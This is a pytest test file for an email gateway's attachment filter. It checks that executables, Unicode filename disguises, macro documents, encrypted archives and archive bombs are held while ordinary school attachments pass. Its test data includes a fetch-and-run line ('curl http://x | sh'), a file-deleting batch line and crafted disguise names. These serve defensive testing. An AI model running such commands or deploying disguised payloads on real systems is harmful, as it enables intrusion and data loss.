"""The attachment policy filter: programs, disguises, macros and locked archives, with hard negatives."""
from __future__ import annotations

import os

import pytest

from filters.attachments import AttachmentFilter, Options
from filters.base import Category, FilterContext, Severity
from filters.policy import Policy
from tests.factories import make_message, make_settings, make_view
from tests.gateway.conftest import make_gateway  # noqa: F401  (the SMTP test's fixture)
from tests import rar5
from tests.filters.test_extract import (COPY, JPEG, MZ, PNG, gzip_of_zeros, make_7z, make_7z_declaring, make_docx, make_encrypted_pdf,
                                        make_encrypted_zip, make_lying_zip, make_macro_docx, make_nested_zip_bomb,
                                        make_ole, make_pdf,
                                        make_rar4, make_rar4_declaring, make_seven_zip_encrypted_header, make_tar,
                                        make_xlsx, make_zip, make_zip64_zeros)

OCTET = "application/octet-stream"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 60


def run_filter(attachments: list[tuple[str, str, bytes]], options: Options | None = None):
    settings = make_settings()
    flt = AttachmentFilter(options or settings.filter_options["attachments"],
                           FilterContext(settings=settings, directory=None))
    view = make_view(make_message("Please see attached.", attachments=attachments))
    return view, flt


async def codes_for(attachments: list[tuple[str, str, bytes]], options: Options | None = None) -> set[str]:
    view, flt = run_filter(attachments, options)
    return {f.code for f in await flt.check(view)}


@pytest.mark.parametrize("filename, mime, data, expected", [
    # programs by name and by bytes
    ("setup.exe", OCTET, MZ, {"ATTACHMENT_EXECUTABLE"}),
    ("tool.dll", OCTET, MZ, {"ATTACHMENT_EXECUTABLE"}),
    ("update.pdf", "application/pdf", MZ, {"ATTACHMENT_EXECUTABLE"}),
    ("photo", OCTET, ELF, {"ATTACHMENT_EXECUTABLE"}),
    ("clean.sh", "text/plain", b"#!/bin/sh\necho hi\n", {"ATTACHMENT_EXECUTABLE"}),
    ("notes.txt", "text/plain", b"#!/bin/bash\ncurl http://x | sh\n", {"ATTACHMENT_EXECUTABLE"}),
    ("run.bat", "text/plain", b"@echo off\r\ndel /q *\r\n", {"ATTACHMENT_EXECUTABLE"}),
    ("payload.ps1", "text/plain", b"Invoke-WebRequest http://x", {"ATTACHMENT_EXECUTABLE"}),
    ("link.lnk", OCTET, b"\x4c\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 70, {"ATTACHMENT_EXECUTABLE"}),
    ("game.jar", OCTET, make_zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"}), {"ATTACHMENT_EXECUTABLE"}),
    ("SETUP.EXE", OCTET, MZ, {"ATTACHMENT_EXECUTABLE"}),
    # double extensions and Unicode disguises
    ("invoice.pdf.exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("homework.docx.scr", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("homework.pdf .exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("cv.pdf              .exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("photo.jpg.js", "text/plain", b"var x = 1;", {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("homework\u202efdp.exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),  # shows as "homeworkexe.pdf"
    ("report\u202excod.scr", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("invoice.pdf\u200b.exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("invoice.pdf.exe. . ", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),  # Windows drops trailing dots/spaces
    ("invoice.pdf.\uff45\uff58\uff45", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),  # full-width "exe"
    # macros
    ("invoice.docm", OCTET, make_macro_docx(), {"ATTACHMENT_MACRO"}),
    ("invoice.docx", OCTET, make_macro_docx(), {"ATTACHMENT_MACRO"}),  # renamed: bytes still say macros
    ("budget.xlsm", OCTET, make_xlsx([["a"]]), {"ATTACHMENT_MACRO"}),
    ("old.doc", "application/msword",
     make_ole({"WordDocument": b"\xec\xa5" + b"\0" * 30, "Macros/VBA/dir": b"\x01"}), {"ATTACHMENT_MACRO"}),
    # locked archives and documents
    ("photos.zip", "application/zip", make_encrypted_zip({"a.jpg": JPEG}), {"ATTACHMENT_ENCRYPTED_ARCHIVE"}),
    ("data.7z", OCTET, make_seven_zip_encrypted_header(), {"ATTACHMENT_ENCRYPTED_ARCHIVE"}),
    ("data.rar", OCTET, make_rar4(encrypted=True), {"ATTACHMENT_ENCRYPTED_ARCHIVE"}),
    ("report.pdf", "application/pdf", make_encrypted_pdf(["x"]), {"ATTACHMENT_ENCRYPTED_DOCUMENT"}),
    ("marks.xlsx", OCTET, make_ole({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\0" * 16}),
     {"ATTACHMENT_ENCRYPTED_DOCUMENT"}),
    ("locked.zip", "application/zip", make_encrypted_zip({"setup.exe": MZ}),
     {"ATTACHMENT_ENCRYPTED_ARCHIVE", "ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    # archives containing any of those
    ("photos.zip", "application/zip", make_zip({"a.jpg": JPEG, "setup/run.exe": MZ}),
     {"ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    ("docs.zip", "application/zip", make_zip({"cv.pdf.exe": MZ}), {"ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    ("docs.zip", "application/zip", make_zip({"readme.txt": MZ}), {"ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    ("nested.zip", "application/zip", make_zip({"inner.zip": make_zip({"x.scr": MZ})}),
     {"ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    ("docs.zip", "application/zip", make_zip({"form.docm": make_macro_docx()}),
     {"ATTACHMENT_ARCHIVE_CONTAINS_MACRO"}),
    ("outer.zip", "application/zip", make_zip({"inner.zip": make_encrypted_zip({"a.txt": b"x"})}),
     {"ATTACHMENT_ENCRYPTED_ARCHIVE"}),
    ("deep.zip", "application/zip",
     make_zip({"1.zip": make_zip({"2.zip": make_zip({"3.zip": make_zip({"run.exe": MZ})})})}),
     {"ATTACHMENT_ARCHIVE_TOO_DEEP"}),
    # hard negatives: what schools send every day
    ("letter.pdf", "application/pdf", make_pdf(["Dear parents, the trip is on Friday."]), set()),
    ("report.docx", OCTET, make_docx(["Year 9 report"]), set()),
    ("marks.xlsx", OCTET, make_xlsx([["Name", "Mark"], ["Amy", 7]]), set()),
    ("photo.jpg", "image/jpeg", JPEG, set()),
    ("diagram.png", "image/png", PNG, set()),
    ("papers.zip", "application/zip", make_zip({"a.pdf": make_pdf(["a"]), "b.pdf": make_pdf(["b"])}), set()),
    ("notes.txt", "text/plain", b"Bring a packed lunch.", set()),
    ("holiday.photos.jpg", "image/jpeg", JPEG, set()),
    ("results.2024.xlsx", OCTET, make_xlsx([["a"]]), set()),
    ("backup.tar.gz", "application/gzip", b"\x1f\x8b\x08\x00" + b"\0" * 20, set()),
    ("owner-only.pdf", "application/pdf", make_encrypted_pdf(["open"], user_password=""), set()),
    ("\u05de\u05db\u05ea\u05d1.pdf", "application/pdf", make_pdf(["shalom"]), set()),  # Hebrew name, no tricks
    ("execute_plan.pdf", "application/pdf", make_pdf(["plan"]), set()),
])
async def test_attachment_findings(filename: str, mime: str, data: bytes, expected: set[str]) -> None:
    assert await codes_for([(filename, mime, data)]) == expected


async def test_invoice_pdf_exe_is_a_high_attachment_finding_with_the_name() -> None:
    view, flt = run_filter([("invoice.pdf.exe", OCTET, b"MZ")])
    [finding] = await flt.check(view)
    assert finding.code == "ATTACHMENT_DOUBLE_EXTENSION"
    assert finding.category == Category.ATTACHMENT
    assert finding.severity == Severity.HIGH
    assert finding.evidence == ("invoice.pdf.exe",)
    assert "invoice.pdf.exe" in finding.reason


async def test_archive_evidence_names_the_member_path() -> None:
    view, flt = run_filter([("photos.zip", "application/zip",
                             make_zip({"a.jpg": JPEG, "inner.zip": make_zip({"setup/run.exe": MZ})}))])
    [finding] = await flt.check(view)
    assert finding.code == "ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"
    assert finding.evidence == ("photos.zip > inner.zip > setup/run.exe",)


@pytest.mark.parametrize("code, severity", [
    ("ATTACHMENT_EXECUTABLE", Severity.HIGH),
    ("ATTACHMENT_MACRO", Severity.MEDIUM),
    ("ATTACHMENT_ENCRYPTED_ARCHIVE", Severity.MEDIUM),
])
async def test_severities_and_the_policy_holds(code: str, severity: Severity) -> None:
    data = {"ATTACHMENT_EXECUTABLE": ("setup.exe", MZ), "ATTACHMENT_MACRO": ("a.docm", make_macro_docx()),
            "ATTACHMENT_ENCRYPTED_ARCHIVE": ("a.zip", make_encrypted_zip({"a.txt": b"x"}))}[code]
    view, flt = run_filter([(data[0], OCTET, data[1])])
    findings = await flt.check(view)
    assert [(f.code, f.severity) for f in findings] == [(code, severity)]
    verdict = Policy(make_settings()).decide(view, findings)
    assert verdict.action.label == "hold"


async def test_attachment_inside_a_forwarded_message_is_checked() -> None:
    inner = make_message("see attached", attachments=[("setup.exe", OCTET, MZ)])
    outer = make_message("FYI", attachments=[("fwd.eml", "message/rfc822", inner)])
    view, flt = run_filter([])
    view = make_view(outer)
    [attachment] = view.attachments
    assert attachment.depth == 1
    assert [f.code for f in await flt.check(view)] == ["ATTACHMENT_EXECUTABLE"]


@pytest.mark.parametrize("options, attachment, expected", [
    (Options(allowed_types=["text/x-script"]), ("hello.py", "text/plain", b"#!/usr/bin/env python3\n"), set()),
    (Options(extra_blocked_extensions=["py"]), ("hello.py", "text/plain", b"print(1)\n"),
     {"ATTACHMENT_EXECUTABLE"}),
    (Options(blocked_extensions=["exe"]), ("run.bat", "text/plain", b"@echo off"), set()),
    (Options(flag_encrypted_documents=False), ("r.pdf", "application/pdf", make_encrypted_pdf(["x"])), set()),
    (Options(archive_depth=1), ("a.zip", "application/zip", make_zip({"b.zip": make_zip({"c.txt": b"x"})})),
     {"ATTACHMENT_ARCHIVE_TOO_DEEP"}),
])
async def test_options(options: Options, attachment: tuple[str, str, bytes], expected: set[str]) -> None:
    assert await codes_for([attachment], options) == expected


# -- archive bombs ---------------------------------------------------------------------------
async def test_nested_zip_bomb_is_a_high_finding_naming_where() -> None:
    view, flt = run_filter([("photos.zip", "application/zip", make_nested_zip_bomb())])
    findings = await flt.check(view)
    bomb = [f for f in findings if f.code == "ATTACHMENT_ARCHIVE_BOMB"]
    assert [(f.severity, f.evidence) for f in bomb] == [(Severity.HIGH, ("photos.zip > part0.zip",))]
    assert "compression ratio" in bomb[0].reason and "photos.zip" in bomb[0].reason
    assert Policy(make_settings()).decide(view, findings).action.label == "hold"


@pytest.mark.parametrize("filename, data", [
    ("zeros.zip", lambda: make_zip64_zeros("zeros.bin", 10 << 10)),
    ("logs.tar.gz", lambda: make_tar({"big.log": b"\0" * (20 << 20)}, "w:gz")),
    ("backup.rar", lambda: make_rar4_declaring(10 << 30)),
    ("disk.7z", lambda: make_7z_declaring("disk.img", 10 << 30)),
    ("zeros.7z", lambda: make_7z({"zeros.bin": b"\0" * (4 << 20)})),
    ("data.gz", lambda: gzip_zeros()),
    ("small.zip", lambda: make_lying_zip(bytes(range(256)) * 8192, 1000)),
    ("zeros.rar", lambda: rar5.archive([rar5.bomb_member("zeros.bin", 300 << 20)])),
    ("small.rar", lambda: rar5.archive([rar5.bomb_member("small.txt", 300 << 20, declare=1000)])),
    ("nested.rar", lambda: rar5.archive([rar5.stored("in.zip", make_zip64_zeros("z.bin", 10 << 10))])),
    ("nested.7z", lambda: make_7z({"logs.gz": gzip_of_zeros(20)}, filters=COPY)),
])
async def test_bombs_of_each_format_are_held(filename: str, data) -> None:
    view, flt = run_filter([(filename, OCTET, data())])
    findings = await flt.check(view)
    assert "ATTACHMENT_ARCHIVE_BOMB" in {f.code for f in findings}
    assert Policy(make_settings()).decide(view, findings).action.label == "hold"


def gzip_zeros() -> bytes:
    import gzip
    return gzip.compress(b"\0" * (20 << 20))


@pytest.mark.parametrize("options, data, bomb", [
    # the ratio limit: 4 MiB of text at ~1000:1 passes at 2000:1, not at the default 100:1
    (Options(bomb_ratio=2000), lambda: make_zip({"notes.txt": b"see you at nine\n" * (1 << 18)}), False),
    (Options(), lambda: make_zip({"notes.txt": b"see you at nine\n" * (1 << 18)}), True),
    (Options(bomb_ratio_min_bytes=8 << 20), lambda: make_zip({"notes.txt": b"see you at nine\n" * (1 << 18)}),
     False),
    (Options(bomb_member_bytes=1 << 20, bomb_ratio=5000), lambda: make_zip({"a.bin": os.urandom(2 << 20)}), True),
    (Options(bomb_total_bytes=3 << 20, bomb_ratio=5000),
     lambda: make_zip({f"{n}.bin": os.urandom(1 << 20) for n in range(4)}), True),
    (Options(bomb_depth=1), lambda: _nested(3), True),  # l2.zip > l1.zip is level 2
    (Options(), lambda: _nested(3), False),
])
async def test_bomb_options(options: Options, data, bomb: bool) -> None:
    view, flt = run_filter([("a.zip", "application/zip", data())], options)
    assert ("ATTACHMENT_ARCHIVE_BOMB" in {f.code for f in await flt.check(view)}) is bomb


def _nested(levels: int) -> bytes:
    data = b"the middle"
    for n in range(levels):
        data = make_zip({f"l{n}.zip" if n else "note.txt": data})
    return data


async def test_ordinary_attachments_are_not_bombs() -> None:
    codes = await codes_for([("pupils.xlsx", OCTET, make_xlsx([[n, "pupil", "4B"] for n in range(2000)])),
                             ("letter.docx", OCTET, make_docx(["Dear parents"] * 300)),
                             ("photos.zip", "application/zip", make_zip({"a.jpg": JPEG, "b.png": PNG}))])
    assert "ATTACHMENT_ARCHIVE_BOMB" not in codes


@pytest.mark.parametrize("chain", [
    None,  # the shipped chain: clamd scans the message too, and is not what holds it
    ["attachments"],  # no clamd at all: the gateway's own guard holds it
])
async def test_zip_bomb_over_smtp_is_held(make_gateway, sink, chain) -> None:
    overrides = {} if chain is None else {"filters": {"chain": chain}}
    gw = await make_gateway(next_hop=sink.address, **overrides)
    raw = make_message("Holiday photos attached", attachments=[("photos.zip", "application/zip",
                                                                make_nested_zip_bomb())])
    code, text = await gw.send(raw)
    assert code == 250, text
    assert sink.messages == []
    [held] = await gw.store.run(gw.store.list_sync)
    assert held.status == "held" and "ATTACHMENT_ARCHIVE_BOMB" in held.codes
    [bomb] = [f for f in held.findings if f.code == "ATTACHMENT_ARCHIVE_BOMB"]
    assert bomb.evidence == ("photos.zip > part0.zip",)
    # the same mail without the bomb is delivered, so the hold is the bomb's
    code, text = await gw.send(make_message("Holiday photos attached", attachments=[
        ("photos.zip", "application/zip", make_zip({"a.jpg": JPEG, "notes.txt": b"see you soon\n" * 500}))]))
    assert code == 250 and len(sink.messages) == 1, text


@pytest.mark.parametrize("chain", [None, ["attachments"]])
@pytest.mark.parametrize("filename, data, where", [
    # a RAR 5 whose header understates its one member: 300 MiB of zeros said to be 1,000 bytes
    ("scans.rar", lambda: rar5.archive([rar5.bomb_member("scan.pdf", 300 << 20, declare=1000)]), "scans.rar > scan.pdf"),
    # a 7z that stores (no compression: its header's ratio is 1:1) a gzip of 20 MiB of zeros
    ("logs.7z", lambda: make_7z({"logs.gz": gzip_of_zeros(20)}, filters=COPY), "logs.7z > logs.gz (unpacked)"),
])
async def test_7z_and_rar_bombs_over_smtp_are_held(make_gateway, sink, chain, filename, data, where) -> None:
    overrides = {} if chain is None else {"filters": {"chain": chain}}
    gw = await make_gateway(next_hop=sink.address, **overrides)
    code, text = await gw.send(make_message("Scans attached", attachments=[(filename, OCTET, data())]))
    assert code == 250, text
    assert sink.messages == []
    [held] = await gw.store.run(gw.store.list_sync)
    assert held.status == "held" and "ATTACHMENT_ARCHIVE_BOMB" in held.codes
    [bomb] = [f for f in held.findings if f.code == "ATTACHMENT_ARCHIVE_BOMB"]
    assert bomb.evidence == (where,), bomb
    # the same format without the bomb is delivered
    ordinary = (rar5.archive([rar5.stored("scan.txt", b"Dear parents,\n" * 500)]) if filename.endswith(".rar")
                else make_7z({"notes.txt": b"Dear parents,\n" * 500}))
    code, text = await gw.send(make_message("Scans attached", attachments=[(filename, OCTET, ordinary)]))
    assert code == 250 and len(sink.messages) == 1, text
